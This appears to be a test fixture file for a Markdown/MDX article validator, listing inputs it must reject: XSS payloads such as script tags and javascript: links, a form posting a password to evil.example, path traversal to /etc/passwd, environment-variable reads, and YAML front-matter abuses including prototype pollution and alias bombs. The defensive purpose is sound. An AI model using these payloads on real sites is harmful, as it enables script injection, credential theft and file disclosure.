/** Code and HTML that articles, which are MDX, would otherwise run or show. */
export const code = [
  'import fs from "node:fs"',
  'export const x = process.env',
  'export * from "/etc/passwd"',
  '{process.exit(1)}',
  'Text {globalThis.process.env.HOME} text',
  '{/* comment */}',
  '<Callout title={process.env.HOME}>\n\nText\n\n</Callout>',
  '<Callout {...props} title="A">\n\nText\n\n</Callout>',
  '<Callout title="A" onClick="alert(1)">\n\nText\n\n</Callout>',
  '<Callout title="A" ref="x">\n\nText\n\n</Callout>',
  '<constructor>\n\nText\n\n</constructor>',
  '<__proto__ />',
  '<svg:use href="#x" />',
  '<Banner />',
  '<>\n\nText\n\n</>',
]

/** HTML, which neither Markdown nor MDX may contain. */
export const html = [
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<img src="x" onerror="alert(1)" />',
  '<svg onload="alert(1)"></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="https://evil.example"></object>',
  '<base href="https://evil.example/" />',
  '<meta http-equiv="refresh" content="0;url=https://evil.example" />',
  '<style>body { display: none }</style>',
  '<form action="https://evil.example"><input name="password" /></form>',
  '<a href="javascript:alert(1)">text</a>',
  '<div style="position: fixed; inset: 0">text</div>',
  '<x-custom>text</x-custom>',
  '<!-- --><script>alert(1)</script>',
]

/** Addresses that links and pictures may not have. */
export const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'javascript&#58;alert(1)',
  'java&#x0A;script:alert(1)',
  'data:text/html,alert(1)',
  'file:///etc/passwd',
  'ftp://evil.example/x',
  'http://evil.example',
  '//evil.example',
  '/\\evil.example',
  '/../../etc/passwd',
  '/%2e%2e/etc/passwd',
  '\\\\evil.example',
]

/** Fields that abuse what YAML and front matter can do, in place of an article's first field. */
export const fields = [
  'title: !!js/function "function () { return process }"',
  'title: !<tag:yaml.org,2002:js/eval> "process.env"',
  'title: !include /etc/passwd',
  'title: &a Smart\npreview2: *a',
  'a: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\nd: [*c, *c]\ntitle: Smart',
  '<<: { draft: true }\ntitle: Smart',
  '__proto__: { polluted: yes }\ntitle: Smart',
  'constructor: { prototype: { polluted: yes } }\ntitle: Smart',
  '? { a: b }\n: x\ntitle: Smart',
  '%TAG ! tag:evil.example,2026:\ntitle: Smart',
  'title: [<script>]',
  'title: { text: x }',
  'title: "Smart\\0Shelves"\nbody: x',
  'body: "<script>alert(1)</script>"\ntitle: Smart',
  '_raw: { flattenedPath: ../../etc/passwd }\ntitle: Smart',
  'oldSlugs: [../../index]\ntitle: Smart',
]
